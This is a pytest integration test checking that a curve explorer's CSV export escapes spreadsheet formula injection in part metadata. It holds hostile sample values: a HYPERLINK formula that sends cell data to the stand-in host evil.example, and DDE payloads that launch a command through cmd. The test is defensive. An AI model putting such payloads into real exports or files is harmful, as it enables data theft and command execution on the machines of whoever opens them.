"""The explorer's "Export parts (CSV)" with metadata a spreadsheet would run as formulas."""

import csv
import io

import pytest

from app.explorer.explorer import CurveExplorer
from pipelines.store import DatasetSpec
from pipelines.synthetic import DemoSpec, generate_demo

pytestmark = pytest.mark.integration

FORMULAS = {
    "part_serial": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "plant": "+cmd|' /C calc'!A0",
    "station": "@SUM(1+1)*cmd|' /C calc'!A0",
    "line": "-2+3+cmd|' /C calc'!A0",
}


def test_exported_parts_keep_formulas_as_text(engine, store):
    batches = list(generate_demo(DemoSpec(curves=40, seed=9)))
    for batch in batches:
        for column, value in FORMULAS.items():
            batch.meta[column] = [f"{value}{i}" for i in range(len(batch.meta))]
    store.write(batches, DatasetSpec(project="demo", kind="demo", name="hostile"))
    explorer = CurveExplorer(client_factory=engine.client, database=store.database)
    explorer.wait()
    explorer.select_box((0, 799, 0, 399))
    explorer.wait()
    assert explorer.parts.picked is not None and explorer.parts.picked.total > 0

    text = explorer.parts.csv.callback().getvalue()  # what "Export parts (CSV)" downloads

    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for column, value in FORMULAS.items():
            assert row[column].startswith("'" + value), (column, row[column])
        assert int(row["curve_id"]) >= 0  # numbers stay numbers
    for line in text.splitlines():
        for cell in next(csv.reader([line])):
            assert cell[:1] not in ("=", "+", "-", "@"), cell
